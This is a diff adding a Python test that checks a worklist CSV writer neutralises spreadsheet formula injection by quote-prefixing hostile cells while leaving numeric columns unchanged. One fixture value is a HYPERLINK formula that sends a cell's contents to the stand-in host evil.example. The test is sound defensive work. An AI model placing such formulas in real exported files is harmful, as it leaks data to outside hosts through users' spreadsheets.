@@ -54,6 +54,24 @@ def test_awkward_values_round_trip_with_rfc4180_quoting(tmp_path):
     assert not list(tmp_path.glob(".*.tmp"))  # atomic writes leave no temporary file
 
 
+def test_formula_cells_are_neutralized_and_numbers_stay_numbers(tmp_path):
+    hostile = dict(accession_number='=HYPERLINK("http://evil.example/?x="&C2, "open")',
+                   patient_id="+41 79", study_date="@SUM(1)", device_group="-acme",
+                   warnings="\tnote", reasons="\rcr", series_uid="'quoted",
+                   input_distance="-0.5000", temperature="0.2")
+    rows = [_row("1.2.3", route="review", priority=4, p="0.074000", **hostile)]
+    worklist, review = write_worklists(rows, tmp_path)
+    for path in (worklist, review):
+        with open(path, encoding="utf-8", newline="") as fh:
+            cells = list(csv.DictReader(fh))[0]
+        for column, value in hostile.items():
+            expected = value if column in {"input_distance", "temperature"} else "'" + value
+            assert cells[column] == expected, column
+        assert (cells["priority"], cells["p_calibrated"]) == ("4", "0.074000")
+    assert read_worklist(worklist) == rows  # the quote is undone on reading
+    assert read_worklist(review) == rows
+
+
 def test_review_worklist_holds_review_and_failed_by_priority_then_probability(tmp_path):
     rows = [_row("a", "review", 4, "0.300000"), _row("b", "urgent", 1, "0.990000"),
             _row("c", "failed", 3, ""), _row("d", "review", 4, ""),
